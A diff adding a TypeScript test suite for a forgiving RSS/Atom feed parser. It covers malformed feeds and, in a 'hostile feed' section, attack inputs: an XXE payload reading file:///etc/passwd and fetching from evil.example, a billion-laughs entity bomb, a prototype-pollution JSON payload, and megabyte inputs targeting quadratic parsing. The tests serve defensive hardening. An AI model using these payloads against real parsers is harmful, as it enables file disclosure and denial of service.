@@ -1,0 +1,198 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { parseFeed } from "./parse-feed.ts";
+
+const HERE = "https://example.com/feed";
+const titles = (text: string) => {
+  const outcome = parseFeed(text, HERE);
+  return outcome.ok ? outcome.feed.items.map(({ title }) => title) : outcome.problem;
+};
+const TWO = "<item><guid>1</guid><title>One</title></item><item><guid>2</guid><title>Two</title></item>";
+const rss = (inside: string) =>
+  `<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>${inside}</channel></rss>`;
+
+describe("a broken feed gives what can be saved", () => {
+  it.each([
+    ["junk before the prolog", `\n\n  junk ${rss(TWO)}`, ["One", "Two"]],
+    [
+      "a PHP warning before it",
+      `<br />\n<b>Warning</b>: mysql() in <b>/x.php</b> on line <b>1</b><br />${rss(TWO)}`,
+      ["One", "Two"],
+    ],
+    ["HTML around it", `<html><body>${rss(TWO)}</body></html>`, ["One", "Two"]],
+    ["junk behind it", `${rss(TWO)}<script>x</script></div>`, ["One", "Two"]],
+    ["cut after an item", rss(TWO).slice(0, rss(TWO).indexOf("</channel>")), ["One", "Two"]],
+    [
+      "cut inside a tag",
+      `<rss><channel>${TWO}<item><guid>3</guid><title>Three</title><enclosure url="htt`,
+      ["One", "Two", "Three"],
+    ],
+    [
+      "cut inside what identifies the last item",
+      `<rss><channel>${TWO}<item><title>Three</title><guid>htt`,
+      ["One", "Two"],
+    ],
+    [
+      "cut inside a section",
+      `<rss><channel>${TWO}<item><guid>3</guid><title>Three</title><description><![CDATA[and so`,
+      ["One", "Two", "Three"],
+    ],
+    [
+      "an ampersand nobody escaped",
+      rss("<item><title>Q&A & more</title><link>https://a.example/?a=1&b=2</link></item>"),
+      ["Q&A & more"],
+    ],
+    [
+      "entities nobody declared",
+      rss("<item><title>caf&eacute;&nbsp;&mdash;&hellip; &foo;</title></item>"),
+      ["café —… &foo;"],
+    ],
+    [
+      "an item nobody closed",
+      rss("<item><guid>1</guid><title>One</title><item><guid>2</guid><title>Two</title></item>"),
+      ["One", "Two"],
+    ],
+    ["end tags nobody opened", rss(`</p></div></item>${TWO}</b>`), ["One", "Two"]],
+    [
+      "other letter cases",
+      "<RSS><Channel><Item><GUID>1</GUID><Title>One</Title><PubDate>x</PubDate></Item></Channel></RSS>",
+      ["One"],
+    ],
+    ["no rss element", `<channel>${TWO}</channel>`, ["One", "Two"]],
+    [
+      "markup nobody escaped in a description",
+      rss("<item><guid>1</guid><description>a<br>b <img src=x> <p>c</description><title>One</title></item>"),
+      ["One"],
+    ],
+    [
+      "a quote nobody closed",
+      rss(`<item><guid isPermaLink="false>0</guid><title>Zero</title></item>${TWO}`),
+      ["Zero", "One", "Two"],
+    ],
+    [
+      "a less-than sign in an attribute",
+      rss('<item><guid>1</guid><enclosure url="/a" title="a < b"/><title>One</title></item>'),
+      ["One"],
+    ],
+    ["a comment nobody closed", rss(`<!-- oops ${TWO}`), ["One", "Two"]],
+    ["a comment with an item in it", rss(`<!-- <item><title>No</title></item> -->${TWO}`), ["One", "Two"]],
+    ["no dates, empty items", rss(`<item/><item></item><item> </item>${TWO}`), ["One", "Two"]],
+    [
+      "zero bytes and control letters",
+      rss("<item><title>O\u0000n\u0001e&#0;&#xD800;&#1114112;</title></item>"),
+      ["On\u0001e"],
+    ],
+    [
+      "two sections in one",
+      rss("<item><title><![CDATA[O]]><![CDATA[ne]]> &amp; <![CDATA[all]]></title></item>"),
+      ["One & all"],
+    ],
+    [
+      "a prefix for everything",
+      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:id>1</a:id><a:title>One</a:title></a:entry></a:feed>',
+      ["One"],
+    ],
+    ["an empty channel", rss(""), []],
+  ])("%s", (_, text, expected) => expect(titles(text)).toEqual(expected));
+
+  it("a cut item keeps its key, so the whole one replaces it next time", () => {
+    const whole = rss("<item><guid>3</guid><title>Three</title><description>all of it</description></item>");
+    const cut = whole.slice(0, whole.indexOf("of it"));
+    const keys = [whole, cut].map((text) => {
+      const outcome = parseFeed(text, HERE);
+      return outcome.ok && outcome.feed.items[0]?.key;
+    });
+    expect(keys).toEqual(["3", "3"]);
+  });
+});
+
+describe("a hostile feed", () => {
+  it("reads no file and fetches nothing", () => {
+    const text = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/">%p;]>
+      <rss><channel><item><title>[&x;]</title></item></channel></rss>`;
+    expect(titles(text)).toEqual(["[&x;]"]);
+  });
+  it("expands nothing", () => {
+    const entities = Array.from({ length: 20 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
+    const text = `<!DOCTYPE rss [<!ENTITY e0 "lol">${entities}]><rss><channel><item><title>&e20;</title></item></channel></rss>`;
+    expect(titles(text)).toEqual(["&e20;"]);
+  });
+  it("names of Object's own are names like any other", () => {
+    const text =
+      '{"title":"x","__proto__":{"polluted":1},"items":[{"id":"__proto__","title":"One"},{"id":"constructor","title":"Two"}]}';
+    expect(titles(text)).toEqual(["One", "Two"]);
+    expect(({} as { polluted?: number }).polluted).toBeUndefined();
+  });
+
+  // Each is a few megabytes that take a quadratic reader hours.
+  const MANY = 1_000_000;
+  it.each([
+    ["elements without end", `<rss><channel>${"<item>".repeat(MANY)}`],
+    ["deep nesting", `<rss>${"<a>".repeat(MANY)}`],
+    ["end tags only", `<rss>${"</a>".repeat(MANY)}`],
+    ["tags nobody closed", `<rss>${"<a ".repeat(MANY)}`],
+    ["quotes nobody closed", `<rss>${'<a b="'.repeat(MANY / 2)}${"<a b='".repeat(MANY / 2)}`],
+    ["one tag of quotes", `<rss ${'""'.repeat(MANY)}`],
+    ["comments nobody closed", `<rss>${"<!--".repeat(MANY)}`],
+    ["declarations nobody closed", `<rss>${"<!x [".repeat(MANY)}`],
+    ["ampersands", `<rss><channel><item><title>${"&".repeat(MANY)}</title></item></channel></rss>`],
+    ["attributes", `<rss><channel><item><link ${"a".repeat(MANY)} ${"b=c ".repeat(MANY / 4)}/></item></channel></rss>`],
+    [
+      "a new name for every element",
+      `<rss>${Array.from({ length: MANY / 10 }, (_, n) => `<x${n} xmlns:y${n}="z"/>`).join("")}`,
+    ],
+    [
+      "less-than signs in a text",
+      `<rss><channel><item><description><![CDATA[${"<".repeat(MANY)}]]></description></item></channel></rss>`,
+    ],
+    [
+      "pictures nobody closed",
+      `<rss><channel><item><description><![CDATA[${"<img ".repeat(MANY)}]]></description></item></channel></rss>`,
+    ],
+    [
+      "white space",
+      `<rss><channel><item><title>${" ".repeat(MANY)}x${"\n".repeat(MANY)}</title></item></channel></rss>`,
+    ],
+    [
+      "a date without end",
+      `<rss><channel><item><title>x</title><pubDate>${"1 ".repeat(MANY)}</pubDate></item></channel></rss>`,
+    ],
+    ["white space alone", " ".repeat(MANY)],
+  ])("is read in linear time: %s", (_, text) => {
+    expect(parseFeed(text, HERE)).toHaveProperty("ok");
+  });
+
+  it("never throws, whatever is cut out of it or put in", () => {
+    const whole = rss(
+      `${TWO}<item><title><![CDATA[x]]></title><link href="/a"/><enclosure url='b' length="1"/><description>&lt;p&gt;</description></item>`,
+    );
+    const piece = fc.constantFrom(
+      "<",
+      ">",
+      "<![CDATA[",
+      "]]>",
+      "<!--",
+      "-->",
+      '"',
+      "'",
+      "&",
+      "&#x",
+      "</item>",
+      "<item",
+      "<?",
+      "/>",
+      "\u0000",
+      "\ud800",
+      "<!DOCTYPE [",
+    );
+    const edit = fc.tuple(fc.nat(whole.length), fc.nat(40), piece);
+    fc.assert(
+      fc.property(fc.array(edit, { maxLength: 6 }), (edits) => {
+        let text = whole;
+        for (const [at, length, put] of edits) text = text.slice(0, at) + put + text.slice(at + length);
+        expect(parseFeed(text, HERE)).toHaveProperty("ok");
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
